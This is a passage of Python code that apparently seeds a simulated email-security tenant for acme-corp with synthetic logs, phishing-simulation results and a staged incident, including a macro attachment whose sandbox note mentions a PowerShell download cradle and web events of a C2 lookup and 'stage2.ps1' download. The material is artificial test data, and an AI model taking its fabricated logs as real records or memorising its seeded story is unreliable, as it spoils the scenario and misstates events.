def _outbound_message(rng: random.Random, t: datetime, n: int, project: str, atts, users, externals) -> dict:
    ext = rng.choice(externals)
    s = rng.choice(users)
    return dict(
        route="outbound",
        sender=(s.name, s.email),
        to=[(ext[0], ext[1])],
        subject=rng.choice(OUTBOUND_SUBJECTS).format(n=n, partner=ext[2].split(".")[0].title(), project=project),
        received=t,
        ip=ORG_EGRESS,
        template="outbound",
        attachments=atts,
        urls=rng.sample(BENIGN_URLS, rng.choice([0, 0, 1])),
    )


def _internal_message(rng: random.Random, t: datetime, n: int, project: str, atts, users) -> dict:
    s = rng.choice(users)
    tos = rng.sample(users, rng.choice([1, 1, 2, 3, 4]))
    return dict(
        route="internal",
        sender=(s.name, s.email),
        to=[(m.name, m.email) for m in tos],
        cc=[(m.name, m.email) for m in rng.sample(users, 1)] if rng.random() < 0.2 else [],
        subject=rng.choice(INTERNAL_SUBJECTS).format(q=rng.randint(1, 4), project=project, n=n),
        received=t,
        ip=ORG_EGRESS,
        template="internal",
        attachments=atts,
        urls=rng.sample(BENIGN_URLS, rng.choice([0, 0, 1])),
    )


# --------------------------------------------------------------------------------------------
# protection logs


def _seed_logs(st: State, rng, users, phish, macro_msgs, imp, macro):
    # The order of the steps is the order of the random draws.
    _seed_click_logs(st, rng, phish)
    _seed_attachment_logs(st, macro_msgs, macro)
    _seed_impersonation_logs(st, imp)
    _seed_rejections(st, rng, users)
    _seed_release_logs(st, rng)
    _seed_managed_urls(st)


def _seed_click_logs(st: State, rng, phish):
    """URL Protect click logs: ordinary clicks on benign links, plus the phishing clicks."""
    inbound_with_urls = [m for m in st.messages if m.route == "inbound" and m.urls and m.story == ""]
    for m in rng.sample(inbound_with_urls, min(300, len(inbound_with_urls))):
        url = m.urls[0][0]
        st.click_logs.append(
            _click(
                m,
                m.to[0][1],
                url,
                m.received + timedelta(minutes=rng.randint(1, 600)),
                "clean",
                "allow",
                rng.choice(["Business", "Technology", "News", "Shopping"]),
                "continue",
            )
        )
    clickers = phish[:9]
    for k, m in enumerate(clickers):
        malicious = k >= 6  # the first six clicked before the page was classified
        st.click_logs.append(
            _click(
                m,
                m.to[0][1],
                m.urls[0][0],
                m.received + timedelta(minutes=20 + 9 * k),
                "malicious" if malicious else "clean",
                "block" if malicious else "allow",
                "Phishing & Fraud" if malicious else "Uncategorized",
                "n/a" if malicious else "continue",
            )
        )
    st.click_logs.sort(key=lambda c: c["_dt"])


MACRO_SANDBOX_DETAILS = (
    f"Sandbox verdict: malicious\r\nMacro: AutoOpen launches PowerShell download cradle\r\nContacted: {C2_DOMAIN}"
)


def _seed_attachment_logs(st: State, macro_msgs, macro):
    """Attachment Protect logs: the held macro copies were sandboxed, the delivered ones pre-emptively released."""
    for m in macro_msgs:
        for _, rcpt in m.to:
            held = m.status == "held"
            st.attachment_logs.append(
                _attachment_log(
                    m,
                    rcpt,
                    macro,
                    after_s=40,
                    result="malicious" if held else "safe",
                    action="sandbox, hold" if held else "none, none",
                    details=MACRO_SANDBOX_DETAILS
                    if held
                    else "Static scan: no known signature\r\nSandbox: skipped (pre-emptive release)",
                )
            )
    for m in [m for m in st.messages if m.attachments and m.route == "inbound" and not m.story][:400]:
        a = st.attachments[m.attachments[0]]
        st.attachment_logs.append(
            _attachment_log(
                m, m.to[0][1], a, after_s=30, result="safe", action="none, none", details="Sandbox verdict: safe"
            )
        )
    st.attachment_logs.sort(key=lambda x: x["_dt"])


def _attachment_log(m: Message, rcpt: str, a: Attachment, *, after_s, result, action, details) -> dict:
    return {
        "senderAddress": m.from_addr,
        "recipientAddress": rcpt,
        "fileName": a.filename,
        "fileType": a.mime,
        "result": result,
        "actionTriggered": action,
        "date": fmt_date(m.received + timedelta(seconds=after_s)),
        "details": details,
        "route": "inbound",
        "messageId": m.mime_id,
        "subject": m.subject,
        "fileHash": a.sha256,
        "definition": "Default Attachment Protect",
        "_dt": m.received,
    }


def _seed_impersonation_logs(st: State, imp):
    """Impersonation Protect logs: the CEO lookalike hits, and low-scoring free-mail senders."""
    for k, m in enumerate(imp):
        hold = m.status == "held"
        st.impersonation_logs.append(
            _impersonation_log(
                st.seed,
                k,
                m,
                identifiers=["similar_internal_domain", "internal_user_name", "reply_address_mismatch"],
                hold=hold,
                results=[
                    {
                        "impersonationDomainSource": "internal_domain",
                        "similarDomain": "acme-corp.com",
                        "stringSimilarToDomain": IMPERSONATION_DOMAIN,
                        "checkerResult": "hit",
                    }
                ],
            )
        )
    for k, m in enumerate([m for m in st.messages if m.route == "inbound" and m.from_addr.endswith("gmail.com")][:20]):
        identifiers = ["newly_observed_domain"] if k % 3 else ["custom_name_list"]
        st.impersonation_logs.append(
            _impersonation_log(st.seed, 100 + k, m, identifiers=identifiers, hold=False, results=[])
        )
    st.impersonation_logs.sort(key=lambda x: x["_dt"])


def _impersonation_log(seed, k, m: Message, *, identifiers: list[str], hold: bool, results: list[dict]) -> dict:
    return {
        "id": "MTOKEN:" + mc_id("imp", seed, k),
        "senderAddress": m.from_addr,
        "recipientAddress": m.to[0][1],
        "subject": m.subject,
        "definition": "Default Impersonation Protect",
        "hits": len(identifiers),
        "identifiers": identifiers,
        "action": "hold" if hold else "none",
        "taggedExternal": True,
        "taggedMalicious": hold,
        "senderIpAddress": m.sender_ip,
        "eventTime": fmt_date(m.received),
        "impersonationResults": results,
        "messageId": m.mime_id,
        "_dt": m.received,
    }


REJECTION_KINDS = [
    (1, "Envelope Rejected", "IP found in RBL"),
    (2, "Message Rejected", "SPF Sender Invalid - hard fail"),
    (3, "Envelope Rejected", "Recipient address rejected: unknown user"),
    (4, "Message Rejected", "Blocked sender policy"),
]


def _seed_rejections(st: State, rng, users):
    """Rejections of the last 7 days only."""
    for k in range(80):
        t = st.now - timedelta(seconds=rng.randint(60, 7 * 86400))
        src = rng.choice([*SPAM_SOURCES, ("192.0.2.230", "dyn-230.residential.example")])
        typ, info, desc = rng.choice(REJECTION_KINDS)
        to = rng.choice(users).email if typ != 3 else f"former.employee{k}@acme-corp.com"
        st.rejections.append(
            {
                "id": mc_id("rej", st.seed, k),
                "created": fmt_date(t),
                "fromAddress": f"sender{k}@{src[1].split('.', 1)[1]}",
                "toAddress": to,
                "info": info,
                "description": desc,
                "ipAddress": src[0],
                "remoteEhlo": src[1],
                "remoteName": src[1],
                "spamScore": rng.randint(0, 60),
                "detectionLevel": "moderate",
                "manageRecipient": False,
                "toAddressPreCheck": to,
                "toAddressPostCheck": to,
                "type": typ,
                "_dt": t,
            }
        )
    st.rejections.sort(key=lambda x: x["_dt"])


def _seed_release_logs(st: State, rng):
    """Some earlier-held spam was released or rejected by an operator."""
    spam_held = [m for m in st.messages if m.status == "held" and m.story == ""]
    for k, m in enumerate(spam_held[: min(25, len(spam_held))]):
        released = k % 3 != 0
        t = m.received + timedelta(hours=rng.randint(1, 20))
        if t > st.now:
            continue
        m.status = "archived" if released else "rejected"
        m.info = "Message released from hold" if released else "Held message rejected"
        st.release_logs.append(_release_log(m, t, released, "alex.morgan@acme-corp.com" if k % 2 else "system"))
    st.release_logs.sort(key=lambda x: x["_dt"])


MANAGED_URLS = [
    ("https", "prize-claims.example", "", "domain", "block", "Known scam"),
    ("https", "docusign-review.example", "", "domain", "block", "Phishing 20 days ago (TR incident)"),
    ("https", "github.com", "/acme-corp", "explicit", "permit", "Our repositories"),
    ("https", "contoso-partners.com", "", "domain", "permit", "Trusted partner"),
    ("http", "cheap-hosting.example", "", "domain", "block", "Spam hosting"),
    ("https", "zoom.us", "", "domain", "permit", "Conferencing"),
]


def _seed_managed_urls(st: State):
    for k, (scheme, dom, path, match, action, comment) in enumerate(MANAGED_URLS):
        st.managed_urls.append(_managed(st.seed, k, scheme, dom, path, match, action, comment))


def _managed(seed, k, scheme, dom, path, match, action, comment, rewrite=False, aware=False, logclick=False):
    return {
        "id": "wOi3MC" + mc_id("mu", seed, k)[3:],
        "scheme": scheme,
        "domain": dom,
        "port": -1,
        "path": path,
        "queryString": "",
        "matchType": match,
        "action": action,
        "comment": comment,
        "disableUserAwareness": aware,
        "disableRewrite": rewrite,
        "disableLogClick": logclick,
    }


def _click(m, user, url, dt, scan, action, category, user_action):
    return {
        "userEmailAddress": user,
        "fromUserEmailAddress": m.from_addr,
        "url": url,
        "ttpDefinition": "Default URL Protect Policy",
        "subject": m.subject,
        "action": action,
        "adminOverride": "N/A",
        "userOverride": "None",
        "scanResult": scan,
        "category": category,
        "sendingIp": m.sender_ip,
        "userAwarenessAction": user_action,
        "date": fmt_date(dt),
        "actions": "Allow" if action == "allow" else "Block",
        "route": m.route,
        "creationMethod": "User Click",
        "emailPartsDescription": ["Body"],
        "messageId": m.mime_id,
        "tagMap": {"UrlScan": {"ScanResult": [scan]}},
        "_dt": dt,
    }


def _release_log(m: Message, t: datetime, released: bool, operator: str) -> dict:
    """A release-log record in the shape real tenants send: no status, subject, recipients or separate
    message id. The id is the message's own (get-message-info takes it), messageInfo is the subject and
    only a rejection has a rejectReason. The keys starting with `_` are for searching and filtering."""
    return {
        "id": m.id,
        "attachments": bool(m.attachments),
        "detectionLevel": m.detection_level or "relaxed",
        "fromEnv": {"address": m.env_from, "domain": m.env_from.split("@")[1]},
        "fromHdr": {"address": m.from_addr, "domain": m.from_addr.split("@")[1]},
        "heldGroup": (m.held or {}).get("heldGroup", "user"),
        "heldReason": (m.held or {}).get("reason", "Spam Signature"),
        "messageInfo": m.subject,
        "operator": {"email": operator},
        "policy": (m.held or {}).get("policy", ""),
        "rejectReason": None if released else "Spam",
        "released": fmt_date(t),
        "route": m.route,
        "size": m.size,
        "spamProcessingDetail": spam_processing(m),
        "verdict": {
            "decision": "spam" if m.spam_score > 10 else "clean",
            "risk": "high" if m.spam_score > 10 else "low",
            "categories": ["spam"] if m.spam_score > 10 else [],
        },
        "_to": [a for _, a in m.to],
        "_status": "released" if released else "rejected",
        "_dt": t,
    }


def spam_processing(m: Message) -> dict:
    a = m.auth

    def verdict(v, label):
        return {"allow": v in ("pass", "none"), "info": f"{label} {v}"}

    return {
        "rbl": {"allow": m.sender_ip not in {s[0] for s in SPAM_SOURCES}, "info": ""},
        "spf": verdict(a["spf"], "SPF"),
        "dkim": verdict(a["dkim"], "DKIM"),
        "dmarc": verdict(a["dmarc"], "DMARC"),
        "managedSender": {"allow": True, "info": ""},
        "permittedSender": {"allow": False, "info": "none"},
        "greyEmail": m.template in ("news",),
    }


def _seed_seeded_incident(st: State):
    """One historical automatic incident by the Mimecast security team (already final)."""
    old = [m for m in st.messages if m.story == "old_phish"]
    st.incident_seq += 1
    inc_id = mc_id("inc", st.seed, st.incident_seq)
    code = f"TR-{ACCOUNT_CODE}-{st.incident_seq:05d}-A"
    created = old[0].received + timedelta(hours=2)
    copies = [(m.id, r) for m in old for r in m.recipients if r in st.mailbox_by_email]
    for m in old:
        m.remediated_by = inc_id
        m.status, m.info = "remediated", f"Removed from mailbox by remediation incident {code}"
        for r in m.recipients:
            st.removed.setdefault(m.id, {})[r] = code
    st.incidents.append(
        {
            "id": inc_id,
            "code": code,
            "type": "automatic",
            "reason": "Mimecast Security Team: DocuSign-themed credential phishing",
            "create": fmt_date(created),
            "modified": fmt_date(created + timedelta(minutes=3)),
            "identified": len(copies),
            "successful": len(copies),
            "failed": 0,
            "restored": 0,
            "searchCriteria": {
                "start": fmt_date(old[0].received - timedelta(days=1)),
                "end": fmt_date(created),
                "messageId": "",
                "fileHash": "",
                "url": "https://docusign-review.example/sign?doc=8812",
                "from": "dse@docusign-review.example",
                "to": "",
                "date": fmt_date(created),
                "unremediateCode": "UR-" + code[3:],
                "restoreCode": "RC-" + code[3:],
            },
            "_copies": copies,
            "_final": {"identified": len(copies), "successful": len(copies), "failed": 0, "restored": 0},
            "_settle_at": 0.0,
            "_polls": 2,
        }
    )


GRADES = ["A", "B", "C", "D", "F"]
CAMPAIGNS = [
    ("Q3 Password Reset Simulation", "Password expiry", "IT Service Desk", "it-desk@acme-helpdesk.example"),
    ("Parcel Delivery Simulation", "Missed parcel", "ParcelNow", "track@parcelnow.example"),
]
SCHEDULED_CAMPAIGN = ("Invoice Approval Simulation", "Overdue invoice", "Accounts Payable", "ap@invoice-desk.example")
TRAINING_TITLES = ["Phishing Fundamentals", "Password Hygiene", "Social Engineering", "Safe Browsing", "Data Handling"]


def _seed_awareness(st: State, rng, users):
    # The order of the steps is the order of the random draws.
    for k in range(len(CAMPAIGNS)):
        _seed_phishing_campaign(st, rng, users, k)
    for u in users:
        _seed_user_awareness(st, rng, u)
    _seed_scheduled_campaign(st, users)


def _campaign(st: State, key, campaign, launch: datetime, *, locked=False) -> dict:
    """A phishing campaign record as list-campaigns answers it, before any result is counted."""
    name, template, sender_name, sender_email = campaign
    return {
        "id": mc_id("phc", st.seed, key),
        "name": name,
        "templates": [{"id": mc_id("tpl", st.seed, key), "displayTitle": template}],
        "locale": "en_GB",
        "locked": locked,
        "timeSlotSelected": "business_hours",
        "sender": {"name": sender_name, "email": sender_email},
        "group": {"id": mc_id("grp", st.seed, "all"), "description": "All Staff", "source": "cloud"},
        "numSent": 0,
        "launchDate": fmt_date(launch),
        "numClicked": 0,
        "numOpened": 0,
        "numSubmitted": 0,
    }


def _seed_phishing_campaign(st: State, rng, users, k: int):
    """A past phishing simulation sent to every user, with each user's outcome and the campaign totals."""
    template = CAMPAIGNS[k][1]
    launch = st.now - timedelta(days=25 - k * 14)
    c = _campaign(st, k, CAMPAIGNS[k], launch, locked=k == 0)
    st.phishing_campaigns.append(c)
    results = [_phishing_result(rng, u, template, launch) for u in users]
    c["numSent"] = len(results)
    c["numOpened"] = sum(r["opened"] for r in results)
    c["numClicked"] = sum(r["clicked"] for r in results)
    c["numSubmitted"] = sum(r["submitted"] for r in results)
    st.phishing_results[c["id"]] = results


def _phishing_result(rng, u: Mailbox, template: str, launch: datetime) -> dict:
    """A user's outcome; the get-user-data handler answers it in Mimecast's shape (times, status)."""
    opened = rng.random() < 0.6
    clicked = opened and rng.random() < 0.25
    submitted = clicked and rng.random() < 0.35
    sent_at = launch + timedelta(minutes=rng.randint(0, 600))
    clicked_at = sent_at + timedelta(minutes=rng.randint(1, 300)) if clicked else None
    reported = (not clicked) and rng.random() < 0.3
    # The other moments follow from those drawn (no more draws, so the rest of the seed is unchanged).
    return {
        "email": u.email,
        "name": u.name,
        "department": u.department,
        "templateName": template,
        "sent": True,
        "sentDate": fmt_date(sent_at),
        "opened": opened,
        "openedDate": fmt_date(clicked_at - timedelta(minutes=1) if clicked_at else sent_at + timedelta(minutes=42))
        if opened
        else None,
        "clicked": clicked,
        "clickedDate": fmt_date(clicked_at) if clicked_at else None,
        "submitted": submitted,
        "submittedDate": fmt_date(clicked_at + timedelta(minutes=2)) if submitted and clicked_at else None,
        "reported": reported,
        "reportedDate": fmt_date(sent_at + timedelta(minutes=75)) if reported else None,
        "active": True,
    }


def _seed_scheduled_campaign(st: State, users):
    """A simulation still to come: scheduled for every user, nothing sent yet (no random draws)."""
    launch = st.now + timedelta(days=5)
    c = _campaign(st, "scheduled", SCHEDULED_CAMPAIGN, launch)
    st.phishing_campaigns.append(c)
    st.phishing_results[c["id"]] = [
        {
            "email": u.email,
            "name": u.name,
            "department": u.department,
            "templateName": SCHEDULED_CAMPAIGN[1],
            "sent": False,
            "sentDate": fmt_date(launch),
            "opened": False,
            "clicked": False,
            "submitted": False,
            "reported": False,
            "active": True,
        }
        for u in users
    ]


def _seed_user_awareness(st: State, rng, u: Mailbox):
    """A user's SAFE score (worse for each simulation link clicked) and training record."""
    clicks = sum(
        1 for c in st.phishing_campaigns for r in st.phishing_results[c["id"]] if r["email"] == u.email and r["clicked"]
    )
    base = min(4, clicks * 2 + rng.choice([0, 0, 1, 1, 2]))
    watched = [rng.random() < 0.8 for _ in TRAINING_TITLES]
    correct = sum(watched) * 2 + rng.randint(0, 2)
    st.safe_scores[u.email] = {
        "emailAddress": u.email,
        "name": u.name,
        "department": u.department,
        "risk": GRADES[base],
        "humanError": GRADES[min(4, clicks * 2)],
        "sentiment": rng.choice(GRADES[:4]),
        "engagement": GRADES[max(0, 4 - sum(watched))],
        "knowledge": GRADES[min(4, max(0, 10 - correct) // 2)],
    }
    st.training[u.email] = {
        "email": u.email,
        "name": u.name,
        "department": u.department,
        "training": [
            {
                "title": t,
                "titleId": mc_id("trn", st.seed, j),
                "assignedTimeStamp": fmt_date(st.now - timedelta(days=90 - j * 15)),
                "watched": watched[j],
                "watchedDate": fmt_date(st.now - timedelta(days=85 - j * 15)) if watched[j] else None,
                "myAnswer": (1 if rng.random() < 0.8 else 0) if watched[j] else -1,
                "onWatchlist": not watched[j],
            }
            for j, t in enumerate(TRAINING_TITLES)
        ],
        "needEngagement": sum(watched) < 3,
        "meritBadge": {"name": "Security Champion"} if all(watched) else {},
        "correctAnswers": correct,
        "incorrectAnswers": max(0, sum(watched) * 2 + 2 - correct),
    }


def _seed_web(st: State, rng, users, macro_msgs):
    sites = [
        ("microsoft.com", "Technology"),
        ("google.com", "Search Engines"),
        ("slack.com", "Business"),
        ("github.com", "Technology"),
        ("salesforce.com", "Business"),
        ("bbc.co.uk", "News"),
        ("linkedin.com", "Social Networking"),
        ("youtube.com", "Streaming Media"),
        ("torrent-mirror.example", "Peer-to-Peer"),
    ]
    host_ip = {u.email: f"10.{20 + i // 250}.{(i // 250) % 8}.{i % 250 + 2}" for i, u in enumerate(users)}
    for k in range(1800):
        u = rng.choice(users)
        dom, cat = rng.choice(sites)
        blocked = cat == "Peer-to-Peer"
        t = st.now - timedelta(seconds=rng.randint(60, 14 * 86400))
        st.web_events.append(_web(u.email, host_ip[u.email], dom, cat, blocked, t, "dns" if k % 2 else "http"))
    victims = [r for m in macro_msgs[:4] for _, r in m.to][:3]
    for k, victim in enumerate(victims):
        t = macro_msgs[0].received + timedelta(hours=1, minutes=13 * k)
        # The macro's beacon: a DNS lookup of the C2 host, then the second-stage download 2 s later.
        for delay, subtype, url in ((0, "dns", None), (2, "http", f"http://{C2_DOMAIN}/stage2.ps1")):
            st.web_events.append(
                _web(
                    victim,
                    host_ip.get(victim, "10.20.0.99"),
                    C2_DOMAIN,
                    "Command and Control" if k else "Uncategorized",
                    k > 0,
                    t + timedelta(seconds=delay),
                    subtype,
                    url=url,
                    policy="Block Malicious Categories",
                    resolved=C2_IP,
                )
            )
    st.web_events.sort(key=lambda e: e["_dt"])


def _web(
    user, ip, domain, category, blocked, t, subtype, url=None, policy="Default Web Security Policy", resolved=None
):
    return {
        "type": "web security",
        "subtype": subtype,
        "timestamp": fmt_date(t),
        "user": user,
        "domain": domain,
        "url": url or (f"https://{domain}/" if subtype == "http" else None),
        "localIp": ip,
        "publicIp": ORG_EGRESS[0],
        "resolvedIp": resolved,
        "policy": policy,
        "category": category,
        "action": "blocked" if blocked else "allowed",
        "_dt": t,
    }


def public(record: dict) -> dict:
    """Strip the simulator's private keys (those starting with `_`)."""
    return {k: v for k, v in record.items() if not k.startswith("_")}
